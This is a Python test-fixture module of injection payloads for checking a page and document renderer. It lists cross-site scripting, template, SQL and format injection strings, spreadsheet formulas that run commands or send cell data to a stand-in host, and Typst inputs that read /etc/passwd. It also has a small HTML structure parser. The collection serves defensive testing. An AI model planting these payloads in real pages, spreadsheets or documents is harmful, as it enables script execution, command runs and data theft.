"""Words that attack whoever shows them, and what a page is made of, words apart."""

from html.parser import HTMLParser

MARKUP = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</SCRIPT ><svg/onload=alert(1)>",
    "<!--<script>",
    "--><img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=`javascript:alert(1)`>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<svg onload=alert(1)>",
    "<svg><script xlink:href=data:,alert(1) />",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<link rel=stylesheet href=//x.example>",
    "<meta http-equiv=refresh content='0;url=//x.example'>",
    "<base href=//x.example/>",
    "<style>@import'//x.example';</style>",
    "<div style=background:url(javascript:alert(1))>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<form action=//x.example><button>x",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "x' autofocus onfocus=alert(1) y='",
    "`-alert(1)-`",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3e",
    "<\u200bscript>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "[x](javascript:alert(1))",
    "![x](javascript:alert(1))",
    "[x]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "[a](https://x.example \"onmouseover=alert(1)\")",
    "{{7*7}} {% raw %} ${7*7} #{7*7}",
    "{{ self.__init__.__globals__ }}",
    "{title} {0} %(x)s %s %n",
    "'; DROP TABLE project; --",
    "\u202egpj.exe\u202c",
    "\u2028alert(1)\u2029",
    "]]>", "*/alert(1)/*", "//<![CDATA[",
    "https://x.example/@tilab.example",
    "\\\"}]}, {\"@type\": \"Person\"",
)  # fmt: skip
"""From OWASP's lists of cross-site scripting, template and format injection."""

FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"https://x.example?\"&A1)", "+1+1", "-1+1",
    "@SUM(1+1)", "＝1+1", "＋1", "－1", "＠SUM(1)", " =1+1", "=WEBSERVICE(\"https://x.example\")",
    "=IMPORTXML(CONCAT(\"https://x.example/\",A1),\"//a\")", "@cmd",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
)  # fmt: skip
"""What a spreadsheet would run (OWASP CSV injection)."""

TYPST = (
    '#read("/etc/passwd")', '#include "/etc/passwd"', '#import "@preview/x:0.1.0": *', "#panic()",
    "#sys.inputs", "$ sum $", "@cite", "<label>", "= Titre", "*gras* _x_ `y`", "\\",
    "#{while true {}}",
    "#eval(\"1\")", "/* */ //", "https://x.example", "\"#", "]#panic()[", "...", "~", "--- -?",
)  # fmt: skip
"""What Typst would run or set."""

SHAPES = (
    "👍 bravo 🇫🇷 👩\u200d💻", "日本語", "สวัสดี", "שלום مرحبا", "\u202eabc", "a" * 190,
    "e" + "\u0301" * 150,
    "\ue000", "a\u200bb", "\u200b", "\u00ad" * 20, "𝕏", "\u009f", "\U000e0041", "Ω → ✓ …", "ﷺ",
)  # fmt: skip
"""What a page may find hard to set."""


class _Structure(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.parts: list[str] = []
        self.links: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.parts.append(f"{tag} {' '.join(name for name, _ in attrs)}")
        self.links += [v or "" for name, v in attrs if name in {"href", "src", "action"}]

    def handle_comment(self, data: str) -> None:
        self.parts.append("comment")

    def unknown_decl(self, data: str) -> None:
        self.parts.append("declaration")


def structure_of(page: str) -> tuple[list[str], list[str]]:
    """The elements of a page with the names of their attributes, and the addresses in them."""
    read = _Structure()
    read.feed(page)
    return read.parts, read.links
